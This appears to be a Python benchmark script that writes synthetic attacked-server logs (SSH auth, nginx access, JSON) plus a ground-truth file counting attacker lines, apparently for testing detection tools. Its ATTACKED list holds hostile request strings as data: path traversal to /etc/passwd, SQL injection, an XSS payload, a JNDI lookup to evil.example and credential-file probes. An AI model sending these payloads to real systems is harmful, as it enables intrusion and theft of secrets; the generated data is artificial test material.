"""Logs of a server that is attacked, and the truth about them: `python -m benchmarks.genlogs FOLDER [LINES]`.

Writes auth.log (syslog without a year), access.log (nginx combined), access.json (the same requests as JSON) and truth.json
(how many lines of each attacker). Attackers come in campaigns of 20 to 250 lines, eight at a time; the times end now.
"""

import datetime as dt
import json
import random
import sys
import time
from pathlib import Path

SHARE = 0.15  # of what happens is an attack
SPAN = 7_200
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
USERS = [
    "admin",
    "root",
    "test",
    "oracle",
    "ubuntu",
    "git",
    "postgres",
    "user",
    "ftpuser",
    "guest",
    "deploy",
    "minecraft",
    "pi",
    "es",
    "hadoop",
]
OWN_USERS = ["deploy", "alice", "bob", "backup"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "GuzzleHttp/7",
    "kube-probe/1.29",
]
ATTACKING_AGENTS = [
    "Mozilla/5.0 zgrab/0.x", "sqlmap/1.7.2#stable (https://sqlmap.org)", "python-requests/2.31.0",
    "Mozilla/5.00 (Nikto/2.5.0)", "-", "masscan/1.3", "curl/8.1.2", *AGENTS[:2],
]  # fmt: skip
ATTACKED = [
    "/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.aws/credentials", "/cgi-bin/../../../../etc/passwd",
    "/index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://evil.example/a}", "/download?file=../../../../../../etc/passwd", "/actuator/env",
    "/solr/admin/info/system", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/api/v1/users?id=1+OR+1=1",
    "/admin.php?cmd=cat%20/etc/passwd", "/server-status", "/backup.zip",
]  # fmt: skip
ORDINARY = [
    "/", "/login", "/dashboard", "/api/v1/items?page=%d", "/api/v1/items/%d", "/static/js/app.%s.js",
    "/static/css/main.%s.css", "/img/logo.svg", "/favicon.ico", "/api/v1/search?q=select+a+union+rep&sort=asc",
    "/blog/how-to-drop-a-table-in-sql", "/healthz", "/api/v1/events", "/files/report-%d.pdf",
]  # fmt: skip


class Chance:
    """Who does what next; the same seed gives the same."""

    def __init__(self, seed: int = 1) -> None:
        self.random = random.Random(seed)
        attackers = [self.ip4() if self.random.random() < 0.9 else self.ip6() for _ in range(400)]
        self.good = [self.ip4() if self.random.random() < 0.8 else self.ip6() for _ in range(3_000)]
        self._attackers = sorted(set(attackers) - set(self.good))
        self._active: list[tuple[str, int]] = []

    def ip4(self) -> str:
        r = self.random.randrange
        return f"{self.random.choice([45, 61, 80, 91, 103, 141, 159, 178, 185, 193, 212, 218])}.{r(256)}.{r(256)}.{r(1, 255)}"

    def ip6(self) -> str:
        r = self.random.randrange
        return f"2a0{r(1, 14):x}:{r(65536):x}:{r(65536):x}:{r(65536):x}::{r(1, 65536):x}"

    def attacker(self) -> str:
        while len(self._active) < 8:
            self._active.append((self.random.choice(self._attackers), self.random.randrange(20, 250)))
        n = self.random.randrange(len(self._active))
        who, left = self._active.pop(n)
        if left > 1:
            self._active.append((who, left - 1))
        return who

    def visitor(self) -> str:
        if self.random.random() < 0.5:  # some come much more often than others
            return self.good[min(int(self.random.paretovariate(0.9)) - 1, len(self.good) - 1)]
        return self.random.choice(self.good)

    def hex(self, length: int) -> str:
        return f"{self.random.getrandbits(4 * length):0{length}x}"

    def fingerprint(self) -> str:
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(self.random.choices(letters, k=43))


def attacked_ssh(chance: Chance, who: str) -> list[str]:
    """Return the lines of one attempt."""
    r = chance.random
    pid, port, kind, user = (
        r.randrange(1_000, 400_000),
        r.randrange(1_024, 65_000),
        r.random(),
        r.choice(USERS),
    )
    at = f"{who} port {port}"
    if kind < 0.40:
        said = [
            f"Invalid user {user} from {at}",
            f"Failed password for invalid user {user} from {at} ssh2",
            f"Received disconnect from {at}:11: Bye Bye [preauth]",
            f"Disconnected from invalid user {user} {at} [preauth]",
        ]
    elif kind < 0.75:
        said = [
            f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={who}  user=root",
            f"Failed password for root from {at} ssh2",
            f"Connection closed by authenticating user root {at} [preauth]",
        ]
    elif kind < 0.9:
        said = [
            f"Unable to negotiate with {at}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]"
        ]
    else:
        said = [f"error: maximum authentication attempts exceeded for root from {at} ssh2 [preauth]"]
    return [f"sshd[{pid}]: {line}" for line in said]


def ordinary_auth(chance: Chance) -> list[str]:
    """Return the lines of something that happens on any server."""
    r = chance.random
    pid, port, kind, user, who = (
        r.randrange(1_000, 400_000), r.randrange(1_024, 65_000), r.random(), r.choice(OWN_USERS), chance.visitor()
    )  # fmt: skip
    if kind < 0.35:
        return [
            f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            f"CRON[{pid}]: pam_unix(cron:session): session closed for user root",
        ]
    if kind < 0.70:
        return [
            f"sshd[{pid}]: Accepted publickey for {user} from {who} port {port} ssh2: ED25519 SHA256:{chance.fingerprint()}",
            f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)",
            f"systemd-logind[612]: New session {r.randrange(1, 99_999)} of user {user}.",
            f"sshd[{pid}]: Received disconnect from {who} port {port}:11: disconnected by user",
            f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}",
        ]
    if kind < 0.85:
        return [
            f"sudo:    {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
            f"sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)",
            "sudo: pam_unix(sudo:session): session closed for user root",
        ]
    if kind < 0.97:
        return [
            (
                f"kernel: [{r.randrange(10**6)}.{r.randrange(10**6):06d}] [UFW BLOCK] IN=eth0 OUT= MAC={chance.hex(12)} SRC={chance.ip4()} "
                f"DST=10.0.0.2 LEN=40 TOS=0x00 PREC=0x00 TTL=244 ID={r.randrange(65_535)} PROTO=TCP SPT={port} "
                f"DPT={r.choice([23, 445, 3389, 5900])} WINDOW=1024 RES=0x00 SYN URGP=0"
            )
        ]
    return [  # somebody mistyped
        f"sshd[{pid}]: Failed password for {user} from {who} port {port} ssh2",
        f"sshd[{pid}]: Accepted password for {user} from {who} port {port} ssh2",
    ]


def request(chance: Chance, *, attack: bool) -> tuple[str, str, int, int, str, str]:
    """Return a request: method, target, status, bytes, referer and agent."""
    r = chance.random
    if attack:
        method, target, status = "POST", "/login", 401
        if r.random() >= 0.25:
            method = r.choice(["GET", "GET", "GET", "POST", "HEAD"])
            target, status = r.choice(ATTACKED), r.choice([404, 404, 404, 403, 400, 301])
        return method, target, status, r.choice([153, 162, 548, 0]), "-", r.choice(ATTACKING_AGENTS)
    target = r.choice(ORDINARY)
    if "%d" in target:
        target %= r.randrange(1, 10_000)
    elif "%s" in target:
        target %= chance.hex(8)
    status = r.choices([200, 304, 302, 404, 499, 500, 401], [80, 8, 5, 3, 1, 0.5, 1])[0]
    referer = r.choice(["-", "https://app.example.com/", "https://www.google.com/"])
    return (
        r.choice(["GET"] * 8 + ["POST", "PUT"]),
        target,
        status,
        r.randrange(90_000),
        referer,
        r.choice(AGENTS),
    )


def write(folder: Path, lines: int, now: float) -> dict[str, dict[str, int]]:
    """Write the logs of so many lines each; return how many lines of whom are attacks, by log."""
    chance = Chance()
    start = int(now) - SPAN
    truth: dict[str, dict[str, int]] = {"auth.log": {}, "access.log": {}}
    with (folder / "auth.log").open("w") as auth:
        done = 0
        while done < lines:
            at = dt.datetime.fromtimestamp(start + SPAN * done // lines, dt.UTC)
            if chance.random.random() < SHARE:
                who = chance.attacker()
                said = attacked_ssh(chance, who)[: lines - done]
                truth["auth.log"][who] = truth["auth.log"].get(who, 0) + len(said)
            else:
                said = ordinary_auth(chance)[: lines - done]
            stamp = f"{MONTHS[at.month - 1]} {at.day:2d} {at:%H:%M:%S}"
            auth.writelines(f"{stamp} web1 {line}\n" for line in said)
            done += len(said)
    with (folder / "access.log").open("w") as access, (folder / "access.json").open("w") as objects:
        for n in range(lines):
            at = dt.datetime.fromtimestamp(start + SPAN * n // lines, dt.UTC)
            attack = chance.random.random() < SHARE
            who = chance.attacker() if attack else chance.visitor()
            if attack:
                truth["access.log"][who] = truth["access.log"].get(who, 0) + 1
            method, target, status, size, referer, agent = request(chance, attack=attack)
            stamp = f"{at.day:02d}/{MONTHS[at.month - 1]}/{at:%Y:%H:%M:%S} +0000"
            access.write(
                f'{who} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"\n'
            )
            line = {
                "time": at.isoformat(), "remote_addr": who, "method": method, "uri": target, "proto": "HTTP/1.1", "status": status,
                "bytes": size, "referer": referer, "user_agent": agent, "request_time": round(chance.random.random() / 4, 3),
                "host": "app.example.com", "request_id": chance.hex(32),
            }  # fmt: skip
            objects.write(json.dumps(line, separators=(",", ":")) + "\n")
    truth["access.json"] = truth["access.log"]
    (folder / "truth.json").write_text(json.dumps(truth))
    return truth


if __name__ == "__main__":
    where = Path(sys.argv[1])
    where.mkdir(parents=True, exist_ok=True)
    made = write(where, int(sys.argv[2]) if len(sys.argv) > 2 else 200_000, time.time())
    print({name: f"{sum(each.values()):,} lines of {len(each)} attackers" for name, each in made.items()})
